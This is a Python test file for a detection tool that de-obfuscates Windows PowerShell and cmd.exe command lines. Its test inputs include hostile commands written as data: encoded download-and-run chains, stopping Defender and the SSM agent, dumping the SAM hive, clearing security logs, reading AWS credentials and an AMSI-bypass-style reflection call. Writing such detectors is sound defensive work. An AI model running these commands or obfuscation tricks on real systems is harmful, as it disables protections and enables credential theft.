"""Each normalisation the Windows reader does, on its own: what a command really runs.

A test names one transformation attackers use to vary a command, and asserts the command line
(``program arg …``, lower case, program canonical) the reader recovers.
"""

from __future__ import annotations

import base64

import pytest

from ssm_warden.detect.windows.cmd import expand_percent, remove_carets
from ssm_warden.detect.windows.facts import facts_of, normalise_path
from ssm_warden.detect.windows.reader import MAX_TEXT, host_payload, read
from ssm_warden.detect.windows.reading import MAX_DEPTH
from ssm_warden.shells import Shell


def lines(text: str, shell: Shell = "powershell") -> list[str]:
    return [c.line for c in read(text, shell).commands]


def utf16(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


# -- PowerShell ---------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("typed", "runs"),
    [
        ("GET-SERVICE w3svc", "get-service w3svc"),  # case
        ("G`et-`Service w3svc", "get-service w3svc"),  # backticks in a name (not before 0abefnrtuv)
        ("iwr http://x", "invoke-webrequest http://x"),  # aliases
        ("irm http://x", "invoke-restmethod http://x"),
        ("gc C:\\a.txt", "get-content c:\\a.txt"),
        ("sal", "set-alias"),
        (
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\PowerShell.EXE -c 1",
            "powershell -c 1",
        ),  # path, .exe
        ("Microsoft.PowerShell.Utility\\Invoke-Expression 1", "invoke-expression 1"),  # module-qualified
    ],
)
def test_names_are_read_the_way_powershell_resolves_them(typed: str, runs: str) -> None:
    assert runs in lines(typed)


def test_string_concatenation_is_folded() -> None:
    assert "invoke-expression x" in lines("& ('Inv'+'oke-Exp'+\"ression\") x")


def test_format_strings_are_folded() -> None:
    assert "invoke-expression x" in lines("& ('{1}{0}' -f 'ex','i') x")


def test_char_arrays_and_join_are_folded() -> None:
    assert "invoke-expression x" in lines("& ([char[]](105,101,120) -join '') x")
    assert "invoke-expression x" in lines("& ([string]::Join('', [char[]](105,101,120))) x")
    assert "invoke-expression x" in lines("& ([char]105+[char]101+[char]120) x")


def test_reversed_strings_and_replace_are_folded() -> None:
    assert "invoke-expression x" in lines("& ('xei'[-1..-3] -join '') x")
    assert "invoke-expression x" in lines("& ('i#e#x'.Replace('#','')) x")
    assert "invoke-expression x" in lines("& ('iXYex' -replace 'XY','') x")


def test_dot_and_ampersand_invoke_strings_and_variables() -> None:
    assert "invoke-expression x" in lines("$n = 'iex'; & $n x")
    assert "invoke-expression x" in lines(". ('ie'+'x') x")


def test_variables_assigned_before_are_substituted() -> None:
    assert "invoke-webrequest http://192.0.2.1/a" in lines("$h='192.0.2.1'; $u=\"http://$h/a\"; iwr $u")
    assert "invoke-webrequest http://192.0.2.1/ab" in lines("$u='http://192.0.2.1/a'; $u += 'b'; iwr $u")


def test_splatting_turns_a_hashtable_into_parameters() -> None:
    got = lines("$p = @{Name='WinDefend'; Force=$true}; Stop-Service @p")
    assert any(line.startswith("stop-service -name windefend -force") for line in got)


def test_set_alias_is_followed() -> None:
    assert "invoke-expression 'x'" in lines(
        "Set-Alias -Name run -Value Invoke-Expression; run \"'x'\""
    ) or any(line.startswith("invoke-expression") for line in lines("sal run iex; run 'x'"))


def test_base64_decoding_is_folded_and_kept_as_text_not_run() -> None:
    reading = read(
        "[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('" + utf16("whoami") + "'))",
        "powershell",
    )
    assert "whoami" in reading.texts
    assert [c.program for c in reading.commands] == []  # decoding alone runs nothing


def test_invoke_expression_of_a_folded_string_is_read_as_powershell() -> None:
    assert "stop-service amazonssmagent" in lines("Invoke-Expression ('Stop-' + 'Service AmazonSSMAgent')")
    assert "stop-service amazonssmagent" in lines("$c = 'Stop-' + 'Service AmazonSSMAgent'; iex $c")
    # what a variable holds at run time (a file's content) is not guessed
    assert lines("$c = Get-Content C:\\t\\a.txt; iex $c")[-1] == "invoke-expression $c"


# -- encoded and nested shells -------------------------------------------------------------------
@pytest.mark.parametrize("switch", ["-EncodedCommand", "-enc", "-e", "-ec", "-EncodedC", "/enc", "\u2013enc"])
def test_encoded_command_prefixes_are_all_decoded(switch: str) -> None:
    reading = read(f"powershell -nop {switch} {utf16('Stop-Service AmazonSSMAgent')}", "powershell")
    assert "stop-service amazonssmagent" in [c.line for c in reading.commands]
    assert reading.decoded == ["stop-service amazonssmagent"]


def test_encoded_commands_inside_encoded_commands_are_decoded() -> None:
    inner = utf16("iwr http://x | iex")
    got = read(f"powershell -enc {utf16('powershell -enc ' + inner)}", "powershell")
    assert "invoke-expression" in [c.program for c in got.commands]
    assert got.nesting == 2


def test_nesting_stops_at_max_depth() -> None:
    payload = "whoami"
    for _ in range(MAX_DEPTH + 3):
        payload = "powershell -enc " + utf16(payload)
    got = read(payload, "powershell")
    assert got.nesting == MAX_DEPTH
    assert "whoami" not in [c.program for c in got.commands]


def test_powershell_dash_c_and_positional_scripts_are_read() -> None:
    assert "invoke-expression x" in lines('powershell -NoProfile -c "iex x"')
    assert "invoke-expression x" in lines('powershell.exe -w hidden "iex x"')
    assert host_payload(("-ExecutionPolicy", "Bypass", "-File", "a.ps1")) == ("& a.ps1", None)


def test_start_process_is_read_as_the_program_it_starts() -> None:
    got = lines(f"Start-Process powershell -ArgumentList '-enc {utf16('whoami')}'")
    assert "whoami" in got


# -- cmd.exe --------------------------------------------------------------------------------------
def test_carets_are_removed_outside_quotes_only() -> None:
    assert remove_carets('c^e^r^t^u^t^i^l "a^b"') == 'certutil "a^b"'
    assert "certutil -urlcache" in lines("c^e^r^t^u^t^i^l -urlcache", "cmd")


def test_environment_substrings_are_expanded() -> None:
    env = {"comspec": "C:\\Windows\\system32\\cmd.exe"}
    assert expand_percent("%COMSPEC:~-7,3%", env) == "cmd"
    assert expand_percent("%COMSPEC:~0,1%", env) == "C"
    assert expand_percent("%COMSPEC:system32=X%", env) == "C:\\Windows\\X\\cmd.exe"
    assert expand_percent("%NOPE%", env) == "%NOPE%"
    assert lines("%COMSPEC:~-7,3% /c whoami", "cmd")[:2] == ["cmd /c whoami", "whoami"]


def test_set_is_seen_by_the_lines_after_it() -> None:
    assert "wevtutil cl security" in lines("set w=wevtutil\n%w% cl Security", "cmd")


def test_cmd_slash_c_is_read_as_cmd() -> None:
    got = lines('cmd /c "reg save HKLM\\SAM C:\\t\\s & whoami"', "powershell")
    assert "reg save hklm\\sam c:\\t\\s" in got
    assert "whoami" in got


def test_cmd_splits_on_its_operators() -> None:
    assert lines("a.exe & b.exe && c.exe || d.exe | e.exe", "cmd") == ["a", "b", "c", "d", "e"]


# -- facts and limits ----------------------------------------------------------------------------
def test_registry_hives_are_spelled_one_way() -> None:
    for spelling in (
        "HKLM:\\SAM",
        "HKEY_LOCAL_MACHINE\\SAM",
        "Registry::HKEY_LOCAL_MACHINE\\SAM",
        "hklm\\sam",
    ):
        assert normalise_path(spelling).lower() == "hklm\\sam"


def test_paths_and_destinations_become_facts() -> None:
    facts = facts_of(read("Copy-Item C:\\a.zip \\\\10.0.0.5\\C$\\t\\ ; iwr http://192.0.2.7/x", "powershell"))
    assert "c:\\a.zip" in facts.path
    assert "http://192.0.2.7/x" in facts.url
    assert any(u.startswith("\\\\10.0.0.5\\c$") for u in facts.url)


def test_services_stopped_are_facts_whatever_the_tool() -> None:
    for typed, shell in (
        ("Stop-Service -Name WinDefend", "powershell"),
        ("sc stop WinDefend", "cmd"),
        ("net stop WinDefend", "cmd"),
        ("Set-Service WinDefend -StartupType Disabled", "powershell"),
    ):
        assert "windefend" in facts_of(read(typed, shell)).service_stopped  # type: ignore[arg-type]


def test_a_huge_text_is_cut_and_the_cut_is_a_fact() -> None:
    facts = facts_of(read("Get-Date; " * (MAX_TEXT // 8), "powershell"))
    assert "truncated" in facts.behavior


def test_malformed_powershell_is_still_read() -> None:
    assert any(
        line.startswith("get-content")
        for line in lines("Get-Content $env:USERPROFILE\\.aws\\credentials (((")
    )


def test_calls_starting_at_one_byte_are_read_outer_first_every_time() -> None:
    # tree-sitter returns captures that start at one byte in no fixed order; the reading must not
    # depend on it (the script fact, and so an excerpt, would change from one run to the next).
    typed = "[Ref].Assembly.GetType('A.B').GetField('c','d').SetValue($null,$true)"
    seen = {tuple(read(typed, "powershell").calls) for _ in range(60)}
    assert len(seen) == 1
    (calls,) = seen
    assert calls[0].endswith(".setvalue") and calls[-1] == "ref.assembly.gettype"
